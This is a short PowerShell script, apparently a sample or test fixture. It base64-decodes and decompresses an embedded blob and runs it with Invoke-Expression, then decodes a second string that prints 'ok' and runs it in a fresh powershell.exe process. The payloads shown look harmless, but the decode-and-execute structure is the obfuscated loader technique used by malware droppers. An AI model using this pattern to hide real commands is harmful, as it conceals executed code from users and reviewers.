$data = 'H4sIAAAAAAAEAHMtSkksSU1RCC7PL8pJUQQAzZrxuBEAAAA='
$ms = New-Object System.IO.MemoryStream(, [System.Convert]::FromBase64String($data))
$gz = New-Object System.IO.Compression.GZipStream($ms, [System.IO.Compression.CompressionMode]::Decompress)
$sr = New-Object System.IO.StreamReader($gz)
$script = $sr.ReadToEnd()
$sr.Close()

Invoke-Expression $script

$second = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('V3JpdGUtT3V0cHV0ICdvayc='))
powershell.exe -NoProfile -Command $second
